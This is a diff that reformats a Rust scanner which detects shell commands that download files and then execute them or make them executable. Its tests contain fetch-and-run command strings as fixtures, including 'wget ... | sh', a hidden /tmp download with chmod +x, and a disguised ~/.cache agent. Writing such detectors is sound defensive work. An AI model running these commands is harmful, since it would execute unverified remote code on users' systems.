@@ -65,27 +65,17 @@ fn download_and_run(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) 
             if run.is_none() && chmod.is_none() {
                 continue;
             }
-            let hidden = name.starts_with('.')
-                || dl.path.starts_with("/tmp/")
-                || dl.path.starts_with("/dev/shm/");
+            let hidden =
+                name.starts_with('.') || dl.path.starts_with("/tmp/") || dl.path.starts_with("/dev/shm/");
             let (id, severity, (r, line)) = match (run, chmod) {
                 (Some(at), _) if !verified => ("remote.download-exec", Severity::Critical, at),
                 (Some(at), _) => ("remote.download-exec", Severity::Medium, at),
-                (None, Some(at)) if hidden && !verified => {
-                    ("remote.download-chmod", Severity::High, at)
-                }
+                (None, Some(at)) if hidden && !verified => ("remote.download-chmod", Severity::High, at),
                 (None, Some(at)) => ("remote.download-chmod", Severity::Medium, at),
                 (None, None) => continue,
             };
             let at = line.find(name).unwrap_or(0);
-            out.push(finding(
-                id,
-                Category::RemoteExecution,
-                severity,
-                r,
-                line,
-                at,
-            ));
+            out.push(finding(id, Category::RemoteExecution, severity, r, line, at));
         }
     }
 }
@@ -98,9 +88,9 @@ fn may_write_file(line: &str) -> bool {
         || contains_ci(b, b"wget")
         || contains_ci(b, b"--output")
         || contains_ci(b, b"-outfile")
-        || line.split_whitespace().any(|t| {
-            t.len() > 1 && t.starts_with('-') && !t.starts_with("--") && t.contains(['o', 'O'])
-        })
+        || line
+            .split_whitespace()
+            .any(|t| t.len() > 1 && t.starts_with('-') && !t.starts_with("--") && t.contains(['o', 'O']))
 }
 
 /// A file a fetch command writes to.
@@ -228,27 +218,16 @@ fn downloads(line: &str) -> Vec<Download> {
 
 fn refers_to(token: &str, path: &str, name: &str) -> bool {
     let t = unquote(token).trim_end_matches(';');
-    let t = t
-        .strip_prefix("./")
-        .or_else(|| t.strip_prefix(".\\"))
-        .unwrap_or(t);
-    let path = path
-        .strip_prefix("./")
-        .or_else(|| path.strip_prefix(".\\"))
-        .unwrap_or(path);
-    let norm = |s: &str| {
-        s.replace("$HOME/", "~/")
-            .replace("${HOME}/", "~/")
-            .to_ascii_lowercase()
-    };
+    let t = t.strip_prefix("./").or_else(|| t.strip_prefix(".\\")).unwrap_or(t);
+    let path = path.strip_prefix("./").or_else(|| path.strip_prefix(".\\")).unwrap_or(path);
+    let norm = |s: &str| s.replace("$HOME/", "~/").replace("${HOME}/", "~/").to_ascii_lowercase();
     t.eq_ignore_ascii_case(name)
         || norm(t) == norm(path)
         || t.ends_with(&format!("/{name}"))
         || t.ends_with(&format!("\\{name}"))
 }
 
-static CHMOD: Lazy =
-    LazyLock::new(|| compile(r"\b(?:chmod\s+(?:-\S+\s+)*(\S+)|install\s+[^\n]*-m\s*(\S+))"));
+static CHMOD: Lazy = LazyLock::new(|| compile(r"\b(?:chmod\s+(?:-\S+\s+)*(\S+)|install\s+[^\n]*-m\s*(\S+))"));
 
 /// `chmod +x`, `chmod 755`, `install -m 0755` of the file.
 fn makes_executable(line: &str, name: &str, skip: usize) -> bool {
@@ -282,8 +261,8 @@ fn tail_after_tokens(line: &str, skip: usize) -> &str {
 }
 
 const PREFIXES: &[&str] = &[
-    "sudo", "nohup", "exec", "setsid", "time", "env", "run", "doas", "command", "-", "$", ">", "*",
-    "then", "do",
+    "sudo", "nohup", "exec", "setsid", "time", "env", "run", "doas", "command", "-", "$", ">", "*", "then",
+    "do",
 ];
 const INTERPRETERS: &[&str] = &[
     "start-process",
@@ -321,10 +300,7 @@ fn executes(line: &str, path: &str, name: &str, skip: usize) -> bool {
         }
         let starts_code = raw.starts_with('`') || raw.starts_with("$(");
         let t = unquote(raw);
-        if k >= skip
-            && (command_position || interpreter || starts_code)
-            && refers_to(raw, path, name)
-        {
+        if k >= skip && (command_position || interpreter || starts_code) && refers_to(raw, path, name) {
             return true;
         }
         if interpreter && t.starts_with('-') {
@@ -356,18 +332,9 @@ mod tests {
     #[test]
     fn finds_output_files_of_fetch_commands() {
         let paths = |l: &str| downloads(l).into_iter().map(|d| d.path).collect::<Vec<_>>();
-        assert_eq!(
-            paths("curl -sLo /tmp/.x https://h.example/x && chmod +x /tmp/.x"),
-            ["/tmp/.x"]
-        );
-        assert_eq!(
-            paths("curl -LO \"https://h.example/v1/kubectl\""),
-            ["kubectl"]
-        );
-        assert_eq!(
-            paths("wget -q https://h.example/a -O /usr/local/bin/a"),
-            ["/usr/local/bin/a"]
-        );
+        assert_eq!(paths("curl -sLo /tmp/.x https://h.example/x && chmod +x /tmp/.x"), ["/tmp/.x"]);
+        assert_eq!(paths("curl -LO \"https://h.example/v1/kubectl\""), ["kubectl"]);
+        assert_eq!(paths("wget -q https://h.example/a -O /usr/local/bin/a"), ["/usr/local/bin/a"]);
         assert_eq!(paths("wget https://h.example/d/file.tgz"), ["file.tgz"]);
         assert!(paths("wget -qO- https://h.example/f.sh | sh").is_empty());
         assert!(paths("curl -s https://api.example.com/v1 | jq .").is_empty());
@@ -400,8 +367,7 @@ mod tests {
 
     #[test]
     fn flags_hidden_executable_downloads() {
-        let body =
-            "curl -fsSL https://s.example/agent -o ~/.cache/.syncd\nchmod +x ~/.cache/.syncd\n";
+        let body = "curl -fsSL https://s.example/agent -o ~/.cache/.syncd\nchmod +x ~/.cache/.syncd\n";
         assert_hit(body, "remote.download-chmod", RemoteExecution, High, 2);
     }
 
